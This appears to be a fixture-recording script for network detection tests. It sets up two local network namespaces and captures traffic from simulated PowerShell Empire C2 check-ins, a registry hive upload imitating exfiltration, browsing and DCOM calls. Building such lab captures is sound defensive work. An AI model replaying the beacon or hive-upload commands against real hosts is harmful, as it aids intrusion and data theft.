#!/usr/bin/env bash
# Records the captures of this folder again: two hosts in network namespaces of this machine, real clients and servers.
# Root only; needs curl, tcpdump, iproute2 and python3-impacket. Nothing leaves the machine, everything stops by itself.
# usage: record.sh OUT
set -euo pipefail
here=$(cd "$(dirname "$0")" && pwd)
out=$(mkdir -p "$1" && cd "$1" && pwd)
python=/usr/bin/python3
a=sidewire-a b=sidewire-b
clean() { for n in $a $b; do ip netns pids $n 2>/dev/null | xargs -r kill 2>/dev/null || true; ip netns del $n 2>/dev/null || true; done; }
trap clean EXIT
clean
ip netns add $a; ip netns add $b
ip link add sw-a netns $a type veth peer name sw-b netns $b
for n in $a $b; do ip -n $n link set lo up; done
ip -n $a addr add 10.20.30.1/24 dev sw-a; ip -n $a link set sw-a address 02:00:00:00:00:01 up
ip -n $b addr add 10.20.30.2/24 dev sw-b; ip -n $b link set sw-b address 02:00:00:00:00:02 up
# Offload would leave checksums and segments to a network card that is not there.
ip netns exec $a ethtool -K sw-a tx off tso off gso off gro off >/dev/null 2>&1 || true
ip netns exec $b ethtool -K sw-b tx off tso off gso off gro off >/dev/null 2>&1 || true
sleep 1
server() { ip netns exec $b timeout 60 "$@" & sleep 1.5; }
capture() { # NAME COMMAND...: what the client does, as one file
  local name=$1; shift
  ip netns exec $b tcpdump -q -i sw-b -s 0 -U -w "$out/$name.pcap" ip 2>/dev/null & local dump=$!
  sleep 1.2
  ip netns exec $a timeout 20 "$@" >/dev/null
  sleep 1
  kill -INT $dump; wait $dump || true
}
server $python "$here/web.py" 10.20.30.2 80 60
server $python "$here/dcom.py" serve 10.20.30.2 49670 60
$python "$here/hive.py" >"$out/.hive"
agent='Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko'
capture http-empire-checkin curl -s -A "$agent" -H Accept: -b SESSIONID=A1B2C3D4E5F6G7H8 -d probe http://10.20.30.2/admin/get.php
capture http-empire-near-miss curl -s -A "$agent" -H Accept: -e http://10.20.30.2/ -b SESSIONID=A1B2C3D4E5F6G7H8 -d probe http://10.20.30.2/admin/get.php
capture http-browse curl -s http://10.20.30.2/ http://10.20.30.2/news.html
capture hive-upload curl -s -H Expect: -T "$out/.hive" http://10.20.30.2/SOFTWARE.hiv
for case in names lower invoke answer; do capture dcom-$case $python "$here/dcom.py" call 10.20.30.2 49670 $case; done
rm "$out/.hive"
